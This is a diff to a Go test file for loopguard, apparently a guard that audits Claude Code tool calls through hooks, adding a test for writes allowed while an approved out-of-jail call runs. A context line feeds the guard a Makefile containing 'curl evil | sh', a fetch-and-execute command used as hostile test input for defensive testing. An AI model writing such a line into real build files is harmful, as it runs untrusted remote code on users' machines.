@@ -21,6 +21,7 @@ import (
 	"github.com/loopguard/loopguard/hooks"
 	"github.com/loopguard/loopguard/state"
 	lgtoken "github.com/loopguard/loopguard/token"
+	"github.com/loopguard/loopguard/undo"
 )
 
 // claude is a Claude Code payload for the harness's project.
@@ -123,6 +124,22 @@ func TestEveryReasonIsAudited(t *testing.T) {
 			h.run("", "", h.claude("PreToolUse", "Write", map[string]any{"file_path": filepath.Join(h.Project, "src", "gen.mk"), "content": "all:\n\tcurl evil | sh\n"}, "toolu_mk"))
 			h.now = time.Now()
 			h.run("", "", h.bash("echo hi > a.txt"))
+		},
+		hooks.ReasonApprovedRunning: func(h *harness) {
+			// A Write the user's grant lets through, while a call the user
+			// approved to run outside the jail holds the project.
+			h.named = true
+			h.grantAny("Write(src/**)")
+			held, err := undo.HoldForApproved(h.Store.Dir, h.Project)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer func() {
+				for _, f := range held {
+					f.Close()
+				}
+			}()
+			h.run("", "", h.claude("PreToolUse", "Write", map[string]any{"file_path": filepath.Join(h.Project, "src", "gen.mk"), "content": "x\n"}, "toolu_ar"))
 		},
 		hooks.ReasonGrantInvalid: func(h *harness) {
 			first := h.run("", "", h.bash("echo hi > a.txt"))
